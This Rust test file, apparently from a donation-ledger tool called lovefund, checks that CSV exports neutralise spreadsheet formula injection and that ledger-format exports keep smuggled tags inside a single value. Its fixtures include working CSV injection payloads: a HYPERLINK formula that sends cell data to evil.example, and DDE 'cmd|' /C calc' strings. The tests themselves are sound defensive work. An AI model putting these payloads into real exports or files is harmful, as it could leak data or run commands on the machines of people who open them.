//! Issue 14, item 7: what lovefund writes for other programs cannot be turned against
//! the reader. A donor named `=HYPERLINK(…)` or `+cmd|…` is text in every CSV (a
//! leading `'`, OWASP's rule) while amounts stay numbers, and the import CSV still
//! round-trips the names; a name holding `, key:val` or `;` is one tag in hledger and
//! ledger, and beancount reads quotes and backslashes back exactly. The outside
//! programs are skipped where missing unless LOVEFUND_TEST_TOOLS=1.

use crate::common;
use crate::interop::tool;

use common::Ledger;
use serde_json::Value;

/// Names that a spreadsheet would run as formulas, and one that merely looks guarded.
const HOSTILE: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點此領取收據\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "-2+3",
];
const HOSTILE_FUND: &str = "=1+1 基金";
const HOSTILE_STUDENT: &str = "-1+1";

/// What a spreadsheet reads as a formula.
fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// An amount or count as lovefund writes numbers: `-40.00`, `3`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "00"));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.len() == 2
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// A gift from each hostile donor (one to a hostile fund, with hostile memo and
/// reference) and aid to a hostile student, so every CSV has negative amounts too.
fn hostile_ledger() -> Ledger {
    let l = Ledger::new();
    l.run(&["fund", "add", HOSTILE_FUND, "--restricted"])
        .success();
    for (i, name) in HOSTILE.iter().enumerate() {
        l.run(&["donor", "add", "--", name]).success();
        let fund = if i == 0 { HOSTILE_FUND } else { "助學" };
        let reference = format!("--reference=-REF-{i}");
        l.run(&[
            "donate",
            &format!("--donor={name}"),
            "--amount",
            "100.00",
            "--date",
            "2022-03-01",
            "--fund",
            fund,
            "--method",
            "bank",
            "--memo",
            "@memo =x",
            &reference,
        ])
        .success();
    }
    l.run(&[
        "beneficiary",
        "add",
        "--type",
        "student",
        "--",
        HOSTILE_STUDENT,
    ])
    .success();
    l.run(&[
        "disburse",
        &format!("--to={HOSTILE_STUDENT}"),
        "--amount",
        "40.00",
        "--date",
        "2022-03-02",
        "--program",
        "助學",
        "--method",
        "bank",
    ])
    .success();
    l
}

fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn no_csv_cell_starts_a_formula_and_amounts_stay_numbers() {
    let l = hostile_ledger();
    let outputs = [
        vec!["export", "--format", "csv"],
        vec!["export", "--format", "import-csv"],
        vec!["report", "donors", "--year", "2022", "--csv"],
        vec![
            "report",
            "donors",
            "--year",
            "2022",
            "--csv",
            "--statement",
            "1",
        ],
        vec!["report", "funds", "--year", "2022", "--csv"],
        vec!["report", "beneficiaries", "--year", "2022", "--csv"],
        vec!["report", "activities", "--year", "2022", "--csv"],
        vec!["report", "balance-sheet", "--as-of", "2022-12-31", "--csv"],
    ];
    for args in outputs {
        let text = l.stdout(&args);
        let rows = cells(&text);
        assert!(rows.len() > 1, "{args:?}: {text}");
        let mut negative_numbers = 0;
        for cell in rows.iter().flatten() {
            if is_number(cell) {
                negative_numbers += usize::from(cell.starts_with('-'));
                continue;
            }
            assert!(
                !starts_a_formula(cell),
                "{args:?}: the cell {cell:?} runs as a formula:\n{text}"
            );
        }
        if args[0] == "export" {
            assert!(negative_numbers > 0 || args[2] == "import-csv", "{text}");
            assert!(text.contains("\"'=HYPERLINK("), "{text}");
            assert!(text.contains(",'+cmd|"), "{text}");
            assert!(text.contains(",'-REF-1,"), "{text}");
            assert!(text.contains("''=already quoted"), "{text}");
        }
        if args[2] == "csv" {
            assert!(
                text.contains(",-40.00,"),
                "a negative amount is a number: {text}"
            );
        }
    }
}

#[test]
fn an_import_csv_export_imports_the_same_names_references_and_memos() {
    let l = hostile_ledger();
    let exported = l.stdout(&["export", "--format", "import-csv"]);
    let path = l.dir.path().join("export.csv");
    std::fs::write(&path, &exported).unwrap();

    let copy = Ledger::new();
    copy.run(&["fund", "add", HOSTILE_FUND, "--restricted"])
        .success();
    copy.run(&["import", path.to_str().unwrap()]).success();
    let names = |ledger: &Ledger, kind: &str| -> Vec<String> {
        let list = ledger.json(&[kind, "list"]);
        let mut names: Vec<String> = list
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap().to_string())
            .collect();
        names.sort();
        names
    };
    let mut expected: Vec<String> = HOSTILE.iter().map(|n| n.to_string()).collect();
    expected.sort();
    assert_eq!(names(&copy, "donor"), expected);
    assert_eq!(names(&copy, "beneficiary"), [HOSTILE_STUDENT]);
    // Exported again, the copy writes the very same file: same names, funds,
    // references (`-REF-1`) and memos (`@memo =x`).
    assert_eq!(copy.stdout(&["export", "--format", "import-csv"]), exported);
    assert_eq!(
        copy.json(&["fund", "balances", "--as-of", "2022-12-31"]),
        l.json(&["fund", "balances", "--as-of", "2022-12-31"])
    );
}

/// The ledger-format export of a ledger whose names, fund, reference, memo and
/// reversal reason carry `, key:val` and `;`.
fn tag_ledger() -> (Ledger, std::path::PathBuf) {
    let l = Ledger::new();
    let donor = "Evil, role:admin; x";
    l.run(&["donor", "add", donor]).success();
    l.run(&["fund", "add", "Fund, kind:fake"]).success();
    l.run(&[
        "donate",
        "--donor",
        donor,
        "--amount",
        "5.00",
        "--date",
        "2022-04-01",
        "--fund",
        "Fund, kind:fake",
        "--method",
        "cash",
        "--memo",
        "m; note:1, y:2",
        "--reference",
        "R;1, z:2",
    ])
    .success();
    l.run(&[
        "reverse",
        "1",
        "--reason",
        "dup, reverses:9",
        "--date",
        "2022-04-02",
    ])
    .success();
    let path = l.dir.path().join("fund.journal");
    l.run(&[
        "export",
        "--format",
        "ledger",
        "--out",
        path.to_str().unwrap(),
    ])
    .success();
    (l, path)
}

const TRANSACTION_TAGS: [&str; 10] = [
    "entry",
    "kind",
    "counterparty",
    "counterparty_type",
    "method",
    "reference",
    "receipt",
    "reverses",
    "reversed_by",
    "reason",
];

#[test]
fn hledger_sees_one_tag_per_field_whatever_the_names_hold() {
    let (_l, path) = tag_ledger();
    let Some(out) = tool(
        "hledger",
        &["-f", path.to_str().unwrap(), "print", "-O", "json"],
    ) else {
        return;
    };
    let transactions: Value = serde_json::from_str(&out).unwrap();
    let transactions = transactions.as_array().unwrap();
    assert_eq!(transactions.len(), 2);
    for t in transactions {
        let tags: Vec<(&str, &str)> = t["ttags"]
            .as_array()
            .unwrap()
            .iter()
            .map(|tag| (tag[0].as_str().unwrap(), tag[1].as_str().unwrap()))
            .collect();
        let mut names: Vec<&str> = tags.iter().map(|(name, _)| *name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), tags.len(), "a tag twice: {tags:?}");
        assert!(
            names.iter().all(|n| TRANSACTION_TAGS.contains(n)),
            "a tag no field wrote: {tags:?}"
        );
        let value = |name: &str| tags.iter().find(|(n, _)| *n == name).map(|(_, v)| *v);
        assert_eq!(value("counterparty"), Some("Evil， role:admin； x"));
        for posting in t["tpostings"].as_array().unwrap() {
            assert_eq!(
                posting["ptags"],
                serde_json::json!([["fund", "Fund， kind:fake"]]),
                "{posting}"
            );
        }
    }
    let reference = transactions[0]["ttags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|tag| tag[0] == "reference")
        .map(|tag| tag[1].clone());
    assert_eq!(reference, Some(Value::from("R；1， z:2")));
}

#[test]
fn ledger_sees_one_tag_per_field_whatever_the_names_hold() {
    let (_l, path) = tag_ledger();
    let path = path.to_str().unwrap();
    let Some(names) = tool("ledger", &["-f", path, "tags"]) else {
        return;
    };
    for name in names.lines() {
        assert!(
            TRANSACTION_TAGS.contains(&name) || name == "fund",
            "ledger reads a tag no field wrote: {name:?}\n{names}"
        );
    }
    let format = "%(tag(\"counterparty\"))|%(tag(\"fund\"))|%(tag(\"reason\"))\n";
    let values = tool("ledger", &["-f", path, "reg", "--format", format]).unwrap();
    let last = values.lines().last().unwrap();
    assert_eq!(
        last,
        "Evil， role:admin； x|Fund， kind:fake|dup， reverses:9"
    );
}

#[test]
fn beancount_reads_quotes_and_backslashes_in_names_back_exactly() {
    let l = Ledger::new();
    let donor = "Q\"uote\\back\\\\\" , role:admin; x";
    l.run(&["donor", "add", donor]).success();
    l.run(&[
        "donate",
        "--donor",
        donor,
        "--amount",
        "5.00",
        "--date",
        "2022-04-03",
        "--fund",
        "助學",
        "--method",
        "cash",
        "--memo",
        "a \"b\" \\ #tag ^link",
        "--reference=\"R\\",
    ])
    .success();
    let path = l.dir.path().join("fund.beancount");
    let path = path.to_str().unwrap();
    l.run(&["export", "--format", "beancount", "--out", path])
        .success();
    if tool("bean-check", &[path]).is_none() {
        return;
    }
    let query = "SELECT payee, narration, entry_meta('counterparty'), entry_meta('reference')";
    let Some(out) = tool("bean-query", &["-f", "csv", path, query]) else {
        return;
    };
    let rows = cells(&out);
    assert_eq!(
        rows[1],
        [donor, "a \"b\" \\ #tag ^link", donor, "\"R\\"],
        "{out}"
    );
}
